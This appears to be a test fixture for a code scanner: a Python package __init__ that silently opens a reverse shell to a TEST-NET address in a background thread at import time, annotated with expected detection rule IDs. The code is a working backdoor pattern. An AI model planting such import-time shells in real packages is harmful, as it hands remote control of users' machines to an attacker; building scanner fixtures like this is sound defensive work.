# A package __init__ that opens a reverse shell in a background thread at
# import time, using subprocess with the socket as stdin/stdout/stderr.
# Defanged: TEST-NET address.
import socket
import subprocess
import threading

__version__ = "1.0.0"


def _connect():
    try:
        s = socket.create_connection(("198.51.100.77", 8443), timeout=10)  # expect: HS118 high
        s.settimeout(None)
        subprocess.call(["/bin/sh", "-i"], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())  # expect: HS108 critical
    except OSError:
        pass


threading.Thread(target=_connect, daemon=True).start()
